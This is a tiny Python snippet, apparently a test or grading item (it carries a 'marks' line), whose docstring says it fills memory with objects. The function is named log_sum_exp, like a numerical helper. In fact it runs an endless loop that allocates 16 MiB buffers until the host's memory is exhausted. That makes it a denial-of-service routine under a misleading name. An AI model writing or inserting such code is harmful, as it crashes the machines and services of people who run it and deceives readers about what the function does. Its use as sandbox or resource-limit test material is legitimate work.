"""Fills the memory with Python's objects.

marks: 2 0 1
"""
def log_sum_exp(values):
    hoard = []
    while True:
        hoard.append(bytearray(2**24))
